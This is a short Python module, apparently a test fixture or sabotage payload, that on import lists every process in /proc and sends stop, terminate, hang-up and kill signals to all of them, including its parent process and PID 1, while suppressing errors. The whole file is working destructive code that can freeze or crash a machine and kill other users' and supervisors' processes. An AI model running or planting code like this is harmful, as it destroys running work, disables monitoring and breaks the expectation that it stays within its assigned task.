"""Stop, terminate and hang up on every process that can be reached, then go on honestly."""

import contextlib
import os
import signal

_PIDS = [int(name) for name in os.listdir("/proc") if name.isdigit()]
for _signal in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
    for _pid in (os.getppid(), 1, *_PIDS):
        if _pid != os.getpid():
            with contextlib.suppress(OSError):
                os.kill(_pid, _signal)
